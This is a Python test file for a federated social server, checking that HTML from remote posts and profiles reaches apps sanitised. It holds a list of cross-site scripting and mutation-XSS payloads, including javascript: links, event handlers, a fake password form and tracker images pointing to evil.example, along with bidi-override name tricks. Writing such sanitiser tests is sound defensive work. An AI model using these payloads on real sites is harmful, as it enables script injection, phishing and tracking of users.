"""What other servers write reaches apps harmless: the cases of group ``html``, as apps and pages are given them."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from storage import posts
from storage.actors import Actor
from tests.federation.remote import Remote, RemoteActor, deliver
from tests.serving import Served

PAYLOADS = {
    "script": "<script>x()</script>hello",
    "script_src": "<script src=//evil.example/x.js></script>",
    "img_tracker": '<img src="https://evil.example/t.gif" width=1>',
    "svg_onload": "<svg onload=x()>",
    "svg_animate": '<svg><animate attributeName=href values="javascript:x()"/></svg>',
    "svg_use": '<svg><use href="data:image/svg+xml,x"/></svg>',
    "href_js_upper": '<a href="JAVASCRIPT:x()">a</a>',
    "href_js_newline": '<a href="java\nscript:x()">a</a>',
    "href_js_entity": '<a href="java&#115;cript:x()">a</a>',
    "href_js_entity2": '<a href="&#x6A;avascript&colon;x()">a</a>',
    "href_js_ctrl": '<a href="\x01javascript:x()">a</a>',
    "href_data": '<a href="data:text/html,<script>x()</script>">a</a>',
    "href_vbscript": '<a href="vbscript:x()">a</a>',
    "onclick": '<p onclick="x()">a</p>',
    "onmouseover_slash": "<p/onmouseover=x()>a",
    "ontoggle": "<details open ontoggle=x()>a</details>",
    "style_attr": '<p style="position:fixed;inset:0">a</p>',
    "style_import": "<style>@import '//evil.example/x.css'</style>",
    "link_css": '<link rel=stylesheet href="//evil.example/x.css">',
    "meta_refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "iframe": '<iframe srcdoc="<script>x()</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "textarea": "<textarea></textarea><script>x()</script></textarea>",
    "video": '<video src="https://evil.example/x.mp4" onerror=x() autoplay></video>',
    "math_mxss": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
    "comment_mxss": "<!--><img src=x onerror=x()>-->",
    "nested_broken": "<<script>script>x()</</script>script>",
    "unclosed": "<a href='https://a.example/' onclick='x()",
    "null_byte_tag": "<scr\x00ipt>x()</scr\x00ipt>",
    "attr_breakout": '<a href="https://a.example/&quot; onmouseover=&quot;x()">a</a>',
    "backtick": "<img src=`x` onerror=`x()`>",
    "xlink": '<svg><a xlink:href="javascript:x()">a</a></svg>',
    "marquee": "<marquee onstart=x()>a</marquee>",
    "isindex_keygen": "<isindex type=image src=1 onerror=x()><keygen autofocus onfocus=x()>",
    "entities_double": "&amp;lt;script&amp;gt;x()&amp;lt;/script&amp;gt; &lt;script&gt;x()&lt;/script&gt;",
    "data_attrs": '<a data-method="delete" data-hx-get="/sign-out" href="https://a.example/">a</a>',
    "aria_role": '<p role="alertdialog" aria-label="Sign in again" tabindex=0>a</p>',
    "plaintext_xmp": "<plaintext><script>x()</script><xmp><script>x()</script></xmp>",
    "table_mxss": "<table><caption><svg><title><style><img src=x onerror=x()></style></title></svg></table>",
    "srcset": '<img srcset="https://evil.example/x 2x"><picture><source srcset=x></picture>',
}
TAGS = {
    "p", "br", "a", "span", "em", "strong", "b", "i", "u", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "sub", "sup", "ruby", "rt", "rp", "dl", "dt", "dd", "hr", "small", "cite", "q",
    "abbr", "mark", "ins", "kbd", "samp", "var", "details", "summary",
    "table", "caption", "thead", "tbody", "tfoot", "tr", "td", "th",
}  # fmt: skip
ATTRIBUTES = {
    "href",
    "rel",
    "class",
    "target",
    "lang",
    "translate",
    "dir",
    "title",
    "start",
    "reversed",
    "value",
    "cite",
}


class Parts(HTMLParser):
    """What a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def harmful(html: str) -> list[str]:
    """What is in it that may not be."""
    found = Parts(html)
    links = [
        value for name, value in found.attributes if name == "href" and not re.match(r"(https?|mailto|xmpp):", value)
    ]
    return [*sorted(found.tags - TAGS), *sorted({name for name, _ in found.attributes} - ATTRIBUTES), *links]


async def shown(node: Served, by: RemoteActor, alice: Actor, **more: Any) -> Any:
    """A note that was delivered, as an app is given it."""
    note = by.note("1", "Hello") | more
    answer = await deliver(node, by, by.create(note))
    assert answer.status_code == 202, answer.text
    async with node.database.reading() as db:
        post = await posts.by_uri(db, note["id"])
    async with await node.as_member(alice) as app:
        return (await app.get(f"/api/v1/statuses/{post.id}")).json()


@pytest.mark.parametrize("case", PAYLOADS)
async def test_content_reaches_apps_harmless(node: Served, alice: Actor, good: Remote, case: str) -> None:
    gina = good.actor("gina", key=1)

    status = await shown(node, gina, alice, content=PAYLOADS[case])

    assert harmful(status["content"]) == []
    assert "evil.example" not in [value for _, value in Parts(status["content"]).attributes]


@pytest.mark.parametrize("case", PAYLOADS)
async def test_a_profile_reaches_apps_harmless(node: Served, alice: Actor, good: Remote, case: str) -> None:
    payload = PAYLOADS[case]
    fields = [{"type": "PropertyValue", "name": payload, "value": payload, "verified_at": "2026-01-01T00:00:00Z"}]
    gina = good.actor("gina", key=1, summary=payload, attachment=fields)

    account = (await shown(node, gina, alice))["account"]

    assert harmful(account["note"]) == []
    for field in account["fields"]:
        assert harmful(field["value"]) == []
        assert field["verified_at"] is None


async def test_only_classes_that_apps_know_are_left(node: Served, alice: Actor, good: Remote) -> None:
    content = '<p class="modal"><span class="h-card admin"><a class="u-url mention sign-in" href="https://a.example/">'

    status = await shown(node, good.actor("gina", key=1), alice, content=content)

    words = {one for name, value in Parts(status["content"]).attributes if name == "class" for one in value.split()}
    assert words <= {"h-card", "u-url", "mention"}


async def test_names_of_tags_and_emojis_are_words(node: Served, alice: Actor, good: Remote) -> None:
    tags: list[dict[str, Any]] = [{"type": "Hashtag", "name": name, "href": "https://good.test/t"} for name in (
        "#<b>x</b>", "#a b", "#a/b", '#"x', "#ok")]  # fmt: skip
    tags += [{"type": "Emoji", "id": f"https://good.test/e/{number}", "name": name,
              "icon": {"type": "Image", "mediaType": "image/png", "url": "https://good.test/e.png"}}
             for number, name in enumerate((":<img>:", ':a" onerror=":', ":a b:", ":fine_1:"))]  # fmt: skip

    status = await shown(node, good.actor("gina", key=1), alice, tag=tags, content="#ok :fine_1:")

    assert all(re.fullmatch(r"[\w·]+", one["name"]) for one in status["tags"]), status["tags"]
    assert all(re.fullmatch(r"\w+", one["shortcode"]) for one in status["emojis"]), status["emojis"]


async def test_language_and_addresses_are_plain(node: Served, alice: Actor, good: Remote) -> None:
    content = {'"><script>x()</script>': "Hello"}

    status = await shown(node, good.actor("gina", key=1), alice, contentMap=content, url="javascript:x()")

    assert status["language"] is None or re.fullmatch(r"[a-zA-Z-]+", status["language"])
    assert status["url"].startswith("https://good.test/")
    assert status["id"].isdigit()


async def test_names_do_not_turn_what_stands_beside_them(node: Served, alice: Actor, good: Remote) -> None:
    gina = good.actor("gina", key=1)
    good.serve({**gina.document, "name": "\u202egnp.exe\u2066 Gina"})

    account = (await shown(node, gina, alice))["account"]

    assert not re.search("[\u202a-\u202e\u2066-\u2069]", account["display_name"])
